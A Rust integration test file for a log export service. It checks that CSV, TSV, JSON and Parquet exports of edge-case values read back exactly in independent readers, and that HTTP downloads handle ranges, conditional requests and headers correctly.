//! Export output that BI tools, browsers and caches trust: every format and compression
//! read back by independent readers (pyarrow, duckdb, pandas, and ClickHouse 26.9 for
//! Parquet — `tests/readers/check_exports.py`), checksums and manifests, HTTP downloads
//! (ranges, conditionals, HEAD, headers), DELETE, expiry, the orphan sweep and `evaluate`.

#![allow(clippy::unwrap_used)] // test code: a panic is the failure report

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use logport_tests::*;

// ---------------------------------------------------------------------------------
// The tricky dataset
// ---------------------------------------------------------------------------------

/// No slice of the built-in catalog has `Int64`, `Nullable(String)`, `Float32`,
/// `Nullable(Int64)` or `Date`; this one has one column of each scalar type a BI tool
/// has to get right. Loaded with `LOGPORT_SCHEMA_DIR` next to the repository's schemas.
const PROBE_SCHEMA: &str = r#"
name = "bi_probe"
description = "Test slice: one column of every scalar type, for the reader checks."
group = "system"
partition = "day"
sort_key = ["probe_id"]

[[fields]]
name = "probe_id"
type = "String"
description = "Row key."
filterable = true
default = true
required = true

[[fields]]
name = "text"
type = "String"
description = "Hostile text."
filterable = true
default = true

[[fields]]
name = "text_null"
type = "Nullable(String)"
description = "Text that may be NULL or empty."
filterable = true
default = true

[[fields]]
name = "label"
type = "LowCardinality(String)"
description = "Dictionary text."
filterable = true
default = false

[[fields]]
name = "big"
type = "UInt64"
description = "Unsigned 64-bit."
filterable = true
default = false

[[fields]]
name = "signed"
type = "Int64"
description = "Signed 64-bit."
filterable = true
default = false

[[fields]]
name = "small"
type = "Int8"
description = "Signed 8-bit."
filterable = true
default = false

[[fields]]
name = "mid"
type = "Int32"
description = "Signed 32-bit."
filterable = true
default = false

[[fields]]
name = "flag"
type = "UInt8"
description = "A flag."
filterable = true
default = false

[[fields]]
name = "ratio"
type = "Float64"
description = "A double."
filterable = true
default = false

[[fields]]
name = "ratio32"
type = "Float32"
description = "A float."
filterable = true
default = false

[[fields]]
name = "amount"
type = "Nullable(Float64)"
description = "A nullable double."
filterable = true
default = false

[[fields]]
name = "maybe_n"
type = "Nullable(Int64)"
description = "A nullable signed 64-bit."
filterable = true
default = false

[[fields]]
name = "seen_at"
type = "Nullable(DateTime)"
description = "A nullable timestamp."
filterable = true
default = false

[[fields]]
name = "day"
type = "Date"
description = "A date."
filterable = true
default = false

[[fields]]
name = "kind"
type = "Enum8('unknown' = 0, 'visit' = 1, 'lp_click' = 2, 'refund' = -3)"
description = "An enum with a negative code."
filterable = true
default = false

[[fields]]
name = "ref_id"
type = "UUID"
description = "A UUID."
filterable = true
default = false
"#;

/// The repository's `schemas/*.toml` plus `bi_probe.toml`.
fn schema_dir() -> tempfile::TempDir {
    schema_dir_with(&[("bi_probe.toml", PROBE_SCHEMA)])
}

/// Every export of the matrix covers these days (inclusive).
const SINCE: &str = "2026-11-02";
const UNTIL: &str = "2026-11-06";

/// Requested probe fields: `text` first, so a row starting with `Code: ` is where
/// ClickHouse 18.x would put an exception in TSV.
const PROBE_FIELDS: &[&str] = &[
    "text",
    "probe_id",
    "text_null",
    "label",
    "big",
    "signed",
    "small",
    "mid",
    "flag",
    "ratio",
    "ratio32",
    "amount",
    "maybe_n",
    "seen_at",
    "day",
    "kind",
    "ref_id",
    "event_time",
    "event_id",
    "app_id",
];

fn uuid_n(n: u32) -> String {
    format!("0192f0a1-7c3e-7d2a-8b4c-{n:012x}")
}

/// One expected probe row: sensible values, then `over`.
fn probe(n: u32, over: Value) -> Value {
    let mut row = json!({
        "probe_id": format!("p{n:02}"),
        "text": "plain",
        "text_null": null,
        "label": "lc",
        "big": 1,
        "signed": -1,
        "small": 0,
        "mid": 0,
        "flag": 0,
        "ratio": 0.5,
        "ratio32": 0.25,
        "amount": null,
        "maybe_n": null,
        "seen_at": null,
        "day": "2026-11-05",
        "kind": "visit",
        "ref_id": "67e55044-10b1-426f-9247-bb680e5fe0c8",
        "event_time": "2026-11-05 12:00:00",
        "event_id": uuid_n(n),
        "app_id": 7,
    });
    for (k, v) in over.as_object().unwrap() {
        row[k] = v.clone();
    }
    row
}

/// (rows the exports must contain, rows to ingest — the same plus neighbours outside
/// the date range, some written in other accepted input forms).
fn probe_dataset() -> (Vec<Value>, Vec<Value>) {
    let expected = vec![
        probe(
            1,
            json!({"text": "comma, separated", "text_null": "", "big": u64::MAX,
                "signed": i64::MIN, "small": -128, "mid": i32::MIN, "flag": 1,
                "ratio": f64::MAX, "ratio32": 1e38, "amount": 0.1,
                "event_time": "2026-11-04 23:59:59", "seen_at": "2026-11-05 00:00:00",
                "kind": "refund", "app_id": u64::MAX}),
        ),
        probe(
            2,
            json!({"text": "say \"hi\" and \"\" twice", "big": 9_007_199_254_740_993u64,
                "signed": i64::MAX, "small": 127, "mid": i32::MAX, "ratio": -f64::MAX,
                "ratio32": -3e38, "amount": -0.0, "event_time": "2026-11-05 00:00:00",
                "seen_at": "2026-11-04 23:59:59", "kind": "lp_click", "app_id": 0}),
        ),
        probe(
            3,
            json!({"text": "line1\nline2\r\nline3\rend", "text_null": "NULL",
                "ratio": 5e-324, "ratio32": 1e-7, "amount": 1e21,
                "ref_id": "00000000-0000-0000-0000-000000000000"}),
        ),
        probe(
            4,
            json!({"text": "tab\there\tand \\ backslash \\", "text_null": "\\N",
                "ratio": 0.1, "ratio32": 0.1, "maybe_n": i64::MIN,
                "ref_id": "ffffffff-ffff-ffff-ffff-ffffffffffff"}),
        ),
        probe(
            5,
            json!({"text": "Ünïcödé — 日本語 🚀 zero\u{200b}width \u{2028} sep",
                "text_null": "Ελληνικά", "label": "日本", "ratio": 2.2250738585072014e-308,
                "maybe_n": 9_007_199_254_740_993i64}),
        ),
        probe(
            6,
            json!({"text": "", "text_null": "  padded  ", "label": "", "big": 0, "signed": 0,
                "ratio": 0.30000000000000004, "ratio32": 16_777_216.0, "maybe_n": 0,
                "amount": 123_456_789.125}),
        ),
        probe(
            7,
            json!({"text": "Code: 60. DB::Exception: Table default.x doesn't exist., e.what() = DB::Exception",
                "kind": "unknown", "ratio": -1e-7}),
        ),
        probe(
            8,
            json!({"text": "NaN", "text_null": "null", "ratio": 1e300, "ratio32": -0.0,
                "seen_at": "2026-11-06 23:59:59"}),
        ),
        probe(
            9,
            json!({"text": "'single' \"double\"; semi|pipe, comma", "text_null": "#N/A",
                "ratio": 9_007_199_254_740_993.0}),
        ),
        probe(
            10,
            json!({"text": "\\N", "text_null": "NA", "day": "2026-02-28"}),
        ),
        probe(
            11,
            json!({"text": "trailing newline\n", "text_null": "\t", "day": "2000-02-29"}),
        ),
        probe(
            12,
            json!({"text": " leading space", "event_time": "2026-11-06 23:59:59",
                "seen_at": "2026-11-06 23:59:59", "day": "2105-12-31"}),
        ),
        probe(
            13,
            json!({"text": "\"", "text_null": "\"\"", "event_time": "2026-11-02 00:00:00"}),
        ),
        probe(
            14,
            json!({"text": "{\"json\": [1, 2], \"k\": null}", "text_null": "a\\tb \\n literal",
                "label": "lc2"}),
        ),
    ];
    let mut ingest = expected.clone();
    // Other accepted input forms of the same values.
    ingest[1]["event_time"] = json!("2026-11-05T03:00:00+03:00");
    ingest[2]["event_time"] = json!(1_793_880_000); // 2026-11-05 12:00:00
    ingest[3]["big"] = json!("1");
    ingest[5]["ratio"] = json!("0.30000000000000004");
    ingest[7]["seen_at"] = json!("2026-11-07T01:59:59+02:00");
    // Just outside the range: never exported.
    ingest.push(probe(
        90,
        json!({"probe_id": "outside-before", "event_time": "2026-11-01 23:59:59"}),
    ));
    ingest.push(probe(
        91,
        json!({"probe_id": "outside-after", "event_time": "2026-11-07 00:00:00"}),
    ));
    (expected, ingest)
}

/// Clicks with hostile values in the repository's own `clicks` slice; every other
/// field is left to its default.
fn clicks_dataset() -> Vec<Value> {
    vec![
        json!({"click_id": "c1", "event_time": "2026-11-03 10:00:00", "event_id": uuid_n(101),
            "app_id": 1, "event_type": "visit",
            "user_agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) \"quoted\", comma",
            "referrer": "https://example.com/?q=a,b&x=\"y\"\n", "sub1": "line\r\nbreak",
            "country_code": "US", "cost": 0.1, "is_bot": 1, "os_version": "17.1",
            "ip": "2001:db8::1", "lp_click_time": "2026-11-03 10:00:05"}),
        json!({"click_id": "c2", "event_time": "2026-11-04 23:59:59", "event_id": uuid_n(102),
            "app_id": 2, "event_type": "lp_click", "keyword": "Ünïcödé 日本語 🚀",
            "sub2": "tab\there", "sub3": "back\\slash", "cost": 1e-7, "ip": "203.0.113.7",
            "connection_type": "cell", "device_type": "tablet"}),
        json!({"click_id": "c3", "event_time": "2026-11-05 00:00:00", "event_id": uuid_n(103),
            "app_id": 3, "sub4": "", "sub5": "\\N", "cost": 123_456.789, "is_unique": 1,
            "lp_clicked": 1, "lp_click_time": "2026-11-05 00:00:00", "campaign_name": "Black Friday, \"BF\""}),
        json!({"click_id": "c4", "event_time": "2026-11-06 12:34:56", "event_id": uuid_n(104),
            "app_id": 4, "event_type": "impression", "cost": 0.0, "language": "pt-BR"}),
    ]
}

// ---------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------

/// The file extension Logport gives a part.
fn extension(format: &str, compression: &str) -> String {
    match (format, compression) {
        ("parquet", _) | (_, "none") => format.to_string(),
        (f, "gzip") => format!("{f}.gz"),
        (f, "zstd") => format!("{f}.zst"),
        other => panic!("no extension for {other:?}"),
    }
}

/// The Content-Type a part must be served with.
fn content_type_of(format: &str, compression: &str) -> &'static str {
    match (format, compression) {
        ("parquet", _) => "application/vnd.apache.parquet",
        (_, "gzip") => "application/gzip",
        (_, "zstd") => "application/zstd",
        ("csv", _) => "text/csv; charset=utf-8",
        ("tsv", _) => "text/tab-separated-values; charset=utf-8",
        ("jsonl", _) => "application/x-ndjson",
        ("json", _) => "application/json",
        other => panic!("no content type for {other:?}"),
    }
}

/// `attachment; filename="…"` → the file name, which must be safe anywhere: only
/// lower-case letters, digits, dot, underscore and hyphen, no leading dot.
fn safe_filename(disposition: &str) -> String {
    let name = disposition
        .strip_prefix("attachment; filename=\"")
        .and_then(|s| s.strip_suffix('"'))
        .unwrap_or_else(|| panic!("Content-Disposition {disposition:?}"));
    assert!(
        !name.is_empty()
            && !name.starts_with('.')
            && name
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"._-".contains(&b)),
        "unsafe file name in {disposition:?}"
    );
    name.to_string()
}

/// One downloaded part: its file on disk and what the job view says of it.
struct Downloaded {
    path: PathBuf,
    bytes: Vec<u8>,
    rows: u64,
}

/// Downloads every part of a succeeded job into `dir`, checking status, headers,
/// length and sha256 against the job view; then checks the manifest (through the API
/// and in the object store) lists exactly these parts.
async fn download_all(
    svc: &Service,
    token: &str,
    job: &Value,
    format: &str,
    compression: &str,
    dir: &Path,
) -> Vec<Downloaded> {
    let id = id_of(job);
    let ext = extension(format, compression);
    let mut out = Vec::new();
    for p in job["parts"].as_array().unwrap() {
        let n = p["n"].as_u64().unwrap();
        let url = p["url"].as_str().unwrap();
        assert_eq!(url, format!("/v1/exports/{id}/parts/{n}"));
        let resp = send(svc.get(url, token)).await;
        assert_eq!(resp.status(), 200, "download {url}");
        assert_eq!(
            header(&resp, "content-type").as_deref(),
            Some(content_type_of(format, compression)),
            "{url}"
        );
        let name = safe_filename(&header(&resp, "content-disposition").unwrap());
        assert_eq!(name, format!("{id}-part-{n:05}.{ext}"));
        let etag = header(&resp, "etag").unwrap();
        let length = header(&resp, "content-length").unwrap();
        let bytes = resp.bytes().await.unwrap().to_vec();
        assert_eq!(length, bytes.len().to_string(), "{url}: Content-Length");
        assert_eq!(bytes.len() as u64, p["bytes"].as_u64().unwrap(), "{p}");
        let sha = sha256_hex(&bytes);
        assert_eq!(
            sha,
            p["sha256"].as_str().unwrap(),
            "{url}: sha256 of the body"
        );
        assert_eq!(etag, format!("\"{sha}\""), "{url}: ETag");
        let path = dir.join(&name);
        std::fs::write(&path, &bytes).unwrap();
        out.push(Downloaded {
            path,
            bytes,
            rows: p["rows"].as_u64().unwrap(),
        });
    }
    check_manifest(svc, token, job, &ext).await;
    out
}

/// The manifest (API and object store) names exactly the job's parts, with the same
/// rows, bytes and sha256, and the attempt directory holds nothing else.
async fn check_manifest(svc: &Service, token: &str, job: &Value, ext: &str) {
    let id = id_of(job);
    let resp = send(svc.get(&format!("/v1/exports/{id}/manifest"), token)).await;
    assert_eq!(resp.status(), 200);
    let manifest: Value = resp.json().await.unwrap();
    let parts = job["parts"].as_array().unwrap();
    let listed = manifest["parts"].as_array().unwrap();
    assert_eq!(listed.len(), parts.len(), "{manifest}");
    for (m, p) in listed.iter().zip(parts) {
        assert_eq!(m["n"], p["n"], "{m}");
        assert_eq!(m["rows"], p["rows"], "{m}");
        assert_eq!(m["bytes"], p["bytes"], "{m}");
        assert_eq!(m["sha256"], p["sha256"], "{m}");
        assert_eq!(
            m["file"],
            format!("part-{:05}.{ext}", p["n"].as_u64().unwrap()),
            "{m}"
        );
    }
    assert_eq!(manifest["job_id"], id);
    assert_eq!(manifest["totals"]["rows"], job["progress"]["rows"]);
    assert_eq!(manifest["totals"]["parts"], parts.len());

    // On disk: exports/acme/<id>/<attempt>/ holds exactly the parts and manifest.json.
    let attempt = manifest["attempt"].as_u64().unwrap();
    let job_dir = svc.object_store_dir().join("exports/acme").join(&id);
    let attempts: Vec<String> = std::fs::read_dir(&job_dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .collect();
    assert_eq!(attempts, [attempt.to_string()], "{}", job_dir.display());
    let mut files: Vec<String> = std::fs::read_dir(job_dir.join(attempt.to_string()))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .collect();
    files.sort();
    let mut want: Vec<String> = listed
        .iter()
        .map(|m| m["file"].as_str().unwrap().to_string())
        .collect();
    want.push("manifest.json".into());
    want.sort();
    assert_eq!(files, want);
    let on_disk: Value = serde_json::from_slice(
        &std::fs::read(job_dir.join(attempt.to_string()).join("manifest.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(on_disk, manifest);
}

/// Decompresses a text part.
fn decompress(bytes: &[u8], compression: &str) -> Vec<u8> {
    let mut out = Vec::new();
    match compression {
        "none" => out.extend_from_slice(bytes),
        "gzip" => out = gunzip(bytes),
        "zstd" => out = zstd::decode_all(bytes).unwrap(),
        other => panic!("compression {other}"),
    }
    out
}

/// Runs `tests/readers/check_exports.py` on a spec; fails the test (with the checker's
/// output) unless every reader agrees with the expected rows. Never skips: a missing
/// python3, Python module or ClickHouse 26.9 (chdb-core, for Parquet) is a failure
/// that says what to install.
fn run_checker(spec_path: &Path) -> String {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("readers/check_exports.py");
    let out = Command::new("python3")
        .arg(&script)
        .arg(spec_path)
        .output()
        .unwrap_or_else(|e| {
            panic!(
                "cannot run python3 ({e}): the export reader checks need Python 3 with pyarrow, \
                 duckdb and pandas; ./scripts/test.sh installs them \
                 (python3 -m pip install pyarrow duckdb pandas)"
            )
        });
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
    match out.status.code() {
        Some(0) => stdout,
        Some(3) => panic!(
            "a Python module or reader the export reader checks need is missing (this is \
             a failure, not a skip):\n{stderr}"
        ),
        _ => panic!(
            "the export readers disagree with the expected rows ({}); spec: {}\n\
             ---- checker stdout ----\n{stdout}\n---- checker stderr ----\n{stderr}",
            out.status,
            spec_path.display()
        ),
    }
}

/// Column names and ClickHouse types of `fields`, as `GET /v1/slices/{slice}` lists them.
async fn columns_of(svc: &Service, slice: &str, fields: &[&str]) -> Vec<Value> {
    let resp = send(svc.get(&format!("/v1/slices/{slice}"), ACME)).await;
    assert_eq!(resp.status(), 200);
    let desc: Value = resp.json().await.unwrap();
    let types: BTreeMap<String, String> = desc["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["name"].as_str().unwrap().to_string(),
                f["type"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    fields
        .iter()
        .map(|f| {
            let ty = types
                .get(*f)
                .unwrap_or_else(|| panic!("{slice} lists no field {f}: {desc}"));
            json!({"name": f, "type": ty})
        })
        .collect()
}

/// The value a field has when an ingest line leaves it out.
fn default_of(ty: &str) -> Value {
    if ty.starts_with("Nullable(") {
        return Value::Null;
    }
    if let Some(rest) = ty.strip_prefix("Enum8('") {
        return json!(rest.split('\'').next().unwrap());
    }
    match ty {
        "String" | "LowCardinality(String)" => json!(""),
        "Float32" | "Float64" => json!(0.0),
        t if t.starts_with("UInt") || t.starts_with("Int") => json!(0),
        other => panic!("the clicks dataset needs a value for every {other} field"),
    }
}

// ---------------------------------------------------------------------------------
// Real readers
// ---------------------------------------------------------------------------------

/// One export of the matrix.
struct Case {
    name: String,
    dataset: &'static str,
    format: &'static str,
    compression: &'static str,
    request: Value,
}

fn case(dataset: &'static str, format: &'static str, compression: &'static str) -> Case {
    let (slice, fields): (&str, Value) = match dataset {
        "probe" => ("bi_probe", json!(PROBE_FIELDS)),
        _ => ("clicks", Value::Null),
    };
    let mut request = json!({"slice": slice, "date_since": SINCE, "date_until": UNTIL,
        "format": format, "compression": compression});
    if !fields.is_null() {
        request["fields"] = fields;
    }
    Case {
        name: format!("{dataset}-{format}-{compression}"),
        dataset,
        format,
        compression,
        request,
    }
}

fn with(mut c: Case, suffix: &str, extra: Value) -> Case {
    c.name = format!("{}-{suffix}", c.name);
    c.request = merged(&c.request, extra);
    c
}

/// Ingests a dataset with every hard value, exports it in every format × compression,
/// with a BOM, and split by rows and by bytes; downloads every part (sha256 = the job's,
/// manifest = the parts) and has pyarrow, duckdb and pandas (and ClickHouse 26.9, for
/// Parquet) read each file and compare every value, type and column name with what was
/// ingested.
#[tokio::test]
async fn every_format_reads_back_exactly_in_independent_readers() {
    let schemas = schema_dir();
    let svc = Service::start_with(
        Options::default().env("LOGPORT_SCHEMA_DIR", schemas.path().to_str().unwrap()),
    )
    .await;
    let (probe_rows, probe_ingest) = probe_dataset();
    svc.ingest(ACME, "bi_probe", &probe_ingest).await;
    let clicks = clicks_dataset();
    svc.ingest(ACME, "clicks", &clicks).await;
    // Another tenant's rows in the same days: never in acme's files.
    svc.ingest(
        GLOBEX,
        "bi_probe",
        &[probe(50, json!({"probe_id": "globex-only"}))],
    )
    .await;

    // The clicks columns: every field but received_time (set by the server).
    let desc: Value = send(svc.get("/v1/slices/clicks", ACME))
        .await
        .json()
        .await
        .unwrap();
    let click_fields: Vec<String> = desc["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["name"].as_str().unwrap().to_string())
        .filter(|f| f != "received_time")
        .collect();
    let click_field_refs: Vec<&str> = click_fields.iter().map(String::as_str).collect();
    let click_columns = columns_of(&svc, "clicks", &click_field_refs).await;
    let click_rows: Vec<Value> = clicks
        .iter()
        .map(|r| {
            let mut row = serde_json::Map::new();
            for c in &click_columns {
                let name = c["name"].as_str().unwrap();
                let v = r
                    .get(name)
                    .cloned()
                    .unwrap_or_else(|| default_of(c["type"].as_str().unwrap()));
                row.insert(name.to_string(), v);
            }
            Value::Object(row)
        })
        .collect();
    let probe_columns = columns_of(&svc, "bi_probe", PROBE_FIELDS).await;

    let mut cases = Vec::new();
    for format in ["csv", "tsv", "jsonl", "json"] {
        for compression in ["none", "gzip", "zstd"] {
            cases.push(case("probe", format, compression));
        }
    }
    cases.push(case("probe", "parquet", "none"));
    cases.push(with(
        case("probe", "csv", "none"),
        "bom",
        json!({"utf8_bom": true}),
    ));
    cases.push(with(
        case("probe", "csv", "gzip"),
        "bom",
        json!({"utf8_bom": true}),
    ));
    cases.push(with(
        case("probe", "tsv", "none"),
        "bom",
        json!({"utf8_bom": true}),
    ));
    for (format, compression, rows) in [
        ("csv", "none", 4),
        ("tsv", "zstd", 5),
        ("jsonl", "gzip", 3),
        ("json", "none", 4),
        ("parquet", "none", 4),
    ] {
        cases.push(with(
            case("probe", format, compression),
            &format!("rows{rows}"),
            json!({"part_max_rows": rows}),
        ));
    }
    const MAX_BYTES: u64 = 1200;
    for (format, compression) in [
        ("csv", "none"),
        ("tsv", "none"),
        ("jsonl", "none"),
        ("json", "gzip"),
    ] {
        cases.push(with(
            case("probe", format, compression),
            "bytes",
            json!({"part_max_bytes": MAX_BYTES}),
        ));
    }
    for format in ["csv", "tsv", "jsonl", "json", "parquet"] {
        cases.push(with(
            case("clicks", format, "none"),
            "all-fields",
            json!({"fields": click_fields}),
        ));
    }

    // Create everything first so the workers run side by side.
    let mut ids = Vec::new();
    for c in &cases {
        ids.push(id_of(&svc.create_export(ACME, &c.request).await));
    }
    let files = tempfile::Builder::new()
        .prefix("logport-formats-")
        .tempdir()
        .unwrap();
    let mut exports = Vec::new();
    for (c, id) in cases.iter().zip(&ids) {
        let job = svc.wait_export(ACME, id).await;
        assert_eq!(job["status"], "succeeded", "{}: {job}", c.name);
        let dir = files.path().join(&c.name);
        std::fs::create_dir(&dir).unwrap();
        let parts = download_all(&svc, ACME, &job, c.format, c.compression, &dir).await;
        let total: u64 = parts.iter().map(|p| p.rows).sum();
        let want_rows = match c.dataset {
            "probe" => probe_rows.len(),
            _ => click_rows.len(),
        } as u64;
        assert_eq!(total, want_rows, "{}: rows of all parts", c.name);
        assert_eq!(job["progress"]["rows"], want_rows, "{}", c.name);

        // Splitting: by rows, every part but the last is full; by bytes, every part
        // but the last reached the limit and none exceeds it by more than one record.
        if let Some(max) = c.request["part_max_rows"].as_u64() {
            assert_eq!(parts.len() as u64, want_rows.div_ceil(max), "{}", c.name);
            for p in &parts[..parts.len() - 1] {
                assert_eq!(p.rows, max, "{}", c.name);
            }
        }
        if let Some(max) = c.request["part_max_bytes"].as_u64() {
            assert!(parts.len() >= 3, "{}: {} parts", c.name, parts.len());
            for (i, p) in parts.iter().enumerate() {
                let raw = decompress(&p.bytes, c.compression).len() as u64;
                assert!(raw <= max + 1024, "{} part {}: {raw} bytes", c.name, i + 1);
                if i + 1 < parts.len() {
                    assert!(raw >= max, "{} part {}: {raw} bytes", c.name, i + 1);
                }
                assert!(p.rows > 0, "{}: an empty part", c.name);
            }
        }
        exports.push(json!({
            "name": c.name,
            "dataset": c.dataset,
            "format": c.format,
            "compression": c.compression,
            "utf8_bom": c.request["utf8_bom"].as_bool().unwrap_or(false),
            "files": parts.iter().map(|p| p.path.display().to_string()).collect::<Vec<_>>(),
            "part_rows": parts.iter().map(|p| p.rows).collect::<Vec<_>>(),
        }));
    }

    let spec = json!({
        "datasets": {
            "probe": {"key": "probe_id", "columns": probe_columns, "rows": probe_rows},
            "clicks": {"key": "click_id", "columns": click_columns, "rows": click_rows},
        },
        "exports": exports,
    });
    let spec_path = files.path().join("spec.json");
    std::fs::write(&spec_path, serde_json::to_vec_pretty(&spec).unwrap()).unwrap();
    let checked = std::panic::catch_unwind(|| run_checker(&spec_path));
    match checked {
        Ok(report) => println!("{report}"),
        Err(e) => {
            // Keep the files for a look.
            let kept = files.keep();
            eprintln!("export files kept in {}", kept.display());
            std::panic::resume_unwind(e);
        }
    }
}

// ---------------------------------------------------------------------------------
// Downloads over HTTP
// ---------------------------------------------------------------------------------

/// Ingests `n` clicks on 2026-11-05 for a tenant.
async fn some_clicks(svc: &Service, token: &str, n: usize) {
    let rows: Vec<Value> = (0..n)
        .map(|i| {
            json!({"click_id": format!("click-{i:04}"), "event_time": format!("2026-11-05 10:{:02}:{:02}", i / 60 % 60, i % 60),
                "country_code": if i % 3 == 0 { "US" } else { "DE" }, "cost": 0.25,
                "user_agent": format!("agent {i} with, some \"text\"")})
        })
        .collect();
    svc.ingest(token, "clicks", &rows).await;
}

fn clicks_request(format: &str, compression: &str) -> Value {
    json!({"slice": "clicks", "date_since": "2026-11-05", "date_until": "2026-11-05",
        "fields": ["click_id", "event_time", "country_code", "cost", "user_agent"],
        "format": format, "compression": compression})
}

/// Range (206 with Content-Range, suffix and open ranges, 416 with `bytes */size`,
/// several ranges → the whole file), If-Range, If-None-Match → 304, HEAD, and the
/// Content-Type / Content-Disposition / Content-Length / ETag of every format.
#[tokio::test]
async fn downloads_honour_ranges_conditionals_and_head() {
    let svc = Service::start().await;
    some_clicks(&svc, ACME, 40).await;

    let formats = [
        ("csv", "none"),
        ("csv", "gzip"),
        ("csv", "zstd"),
        ("tsv", "none"),
        ("jsonl", "none"),
        ("jsonl", "gzip"),
        ("json", "zstd"),
        ("json", "none"),
        ("parquet", "none"),
    ];
    let mut ids = Vec::new();
    for (f, c) in formats {
        ids.push(id_of(&svc.create_export(ACME, &clicks_request(f, c)).await));
    }
    let dir = tempfile::tempdir().unwrap();
    let mut full = BTreeMap::new();
    for ((f, c), id) in formats.iter().zip(&ids) {
        let job = svc.wait_export(ACME, id).await;
        assert_eq!(job["status"], "succeeded", "{job}");
        // Content-Type, Content-Disposition, Content-Length, ETag: checked in here.
        let sub = dir.path().join(format!("{f}-{c}"));
        std::fs::create_dir(&sub).unwrap();
        let parts = download_all(&svc, ACME, &job, f, c, &sub).await;
        assert_eq!(parts.len(), 1);
        full.insert((*f, *c), (job, parts.into_iter().next().unwrap().bytes));
    }

    for ((f, c), (job, body)) in &full {
        let part = &job["parts"][0];
        let url = part["url"].as_str().unwrap();
        let size = body.len();
        assert!(size > 20, "{f}/{c}: {size} bytes");
        let etag = format!("\"{}\"", part["sha256"].as_str().unwrap());
        let what = format!("{f}/{c} ({size} bytes)");

        // A range request → 206 with exactly those bytes.
        let ranged = |range: String| {
            let rb = svc.get(url, ACME).header("range", range);
            async move {
                let resp = send(rb).await;
                let status = resp.status().as_u16();
                let cr = header(&resp, "content-range");
                let cl = header(&resp, "content-length");
                let ct = header(&resp, "content-type");
                (status, cr, cl, ct, resp.bytes().await.unwrap().to_vec())
            }
        };
        for (range, start, end) in [
            ("bytes=0-9".to_string(), 0, 10),
            ("bytes=-5".to_string(), size - 5, size),
            ("bytes=10-".to_string(), 10, size),
            ("bytes=0-".to_string(), 0, size),
            (format!("bytes={}-{}", size - 1, size - 1), size - 1, size),
            (format!("bytes=5-{}", size * 10), 5, size),
            (format!("bytes=-{}", size * 2), 0, size),
        ] {
            let (status, cr, cl, _, got) = ranged(range.clone()).await;
            assert_eq!(status, 206, "{what}: {range}");
            assert_eq!(
                cr.as_deref(),
                Some(format!("bytes {start}-{}/{size}", end - 1).as_str()),
                "{what}: {range}"
            );
            assert_eq!(cl, Some((end - start).to_string()), "{what}: {range}");
            assert_eq!(got, body[start..end], "{what}: {range}");
        }
        // Unsatisfiable → 416 with the size.
        for range in [
            format!("bytes={size}-"),
            format!("bytes={}-{}", size + 5, size + 10),
            "bytes=-0".to_string(),
        ] {
            let (status, cr, _, ct, _) = ranged(range.clone()).await;
            assert_eq!(status, 416, "{what}: {range}");
            assert_eq!(
                cr.as_deref(),
                Some(format!("bytes */{size}").as_str()),
                "{what}: {range}"
            );
            assert_eq!(
                ct.as_deref(),
                Some("application/problem+json"),
                "{what}: {range}"
            );
        }
        // Several ranges, or another unit: the whole file.
        for range in ["bytes=0-1,4-5", "items=0-3"] {
            let (status, cr, _, _, got) = ranged(range.to_string()).await;
            assert_eq!(status, 200, "{what}: {range}");
            assert_eq!(cr, None, "{what}: {range}");
            assert_eq!(&got, body, "{what}: {range}");
        }

        // If-Range: the range applies only to the version the client has.
        let resp = send(
            svc.get(url, ACME)
                .header("range", "bytes=0-9")
                .header("if-range", etag.clone()),
        )
        .await;
        assert_eq!(resp.status(), 206, "{what}: If-Range with the ETag");
        assert_eq!(resp.bytes().await.unwrap(), body[..10]);
        for other in [
            "\"0000000000000000000000000000000000000000000000000000000000000000\"".to_string(),
            format!("W/{etag}"), // If-Range needs a strong validator
            "Wed, 21 Oct 2015 07:28:00 GMT".to_string(),
        ] {
            let resp = send(
                svc.get(url, ACME)
                    .header("range", "bytes=0-9")
                    .header("if-range", other.clone()),
            )
            .await;
            assert_eq!(resp.status(), 200, "{what}: If-Range {other}");
            assert_eq!(header(&resp, "content-range"), None);
            assert_eq!(&resp.bytes().await.unwrap().to_vec(), body);
        }

        // If-None-Match → 304 with the ETag and no body (weak comparison, lists, *).
        for inm in [
            etag.clone(),
            format!("\"abc\", {etag}"),
            "*".to_string(),
            format!("W/{etag}"),
        ] {
            let resp = send(svc.get(url, ACME).header("if-none-match", inm.clone())).await;
            assert_eq!(resp.status(), 304, "{what}: If-None-Match {inm}");
            assert_eq!(header(&resp, "etag").as_deref(), Some(etag.as_str()));
            assert!(resp.bytes().await.unwrap().is_empty());
        }
        let resp = send(svc.get(url, ACME).header("if-none-match", "\"stale\"")).await;
        assert_eq!(resp.status(), 200, "{what}: If-None-Match stale");
        assert_eq!(&resp.bytes().await.unwrap().to_vec(), body);

        // HEAD: the GET's headers, no body.
        let resp = send(svc.http.head(svc.url(url)).bearer_auth(ACME)).await;
        assert_eq!(resp.status(), 200, "{what}: HEAD");
        assert_eq!(
            header(&resp, "content-length"),
            Some(size.to_string()),
            "{what}: HEAD Content-Length"
        );
        assert_eq!(header(&resp, "etag").as_deref(), Some(etag.as_str()));
        assert_eq!(
            header(&resp, "content-type").as_deref(),
            Some(content_type_of(f, c))
        );
        assert_eq!(header(&resp, "accept-ranges").as_deref(), Some("bytes"));
        assert!(header(&resp, "content-disposition").is_some());
        assert!(resp.bytes().await.unwrap().is_empty(), "{what}: HEAD body");
    }

    // Another tenant sees nothing, and parts that do not exist are 404.
    let (_, (job, _)) = full.iter().next().unwrap();
    let id = id_of(job);
    for (path, token) in [
        (format!("/v1/exports/{id}/parts/1"), GLOBEX),
        (format!("/v1/exports/{id}/parts/2"), ACME),
        (format!("/v1/exports/{id}/parts/0"), ACME),
        (format!("/v1/exports/{id}/parts/x"), ACME),
    ] {
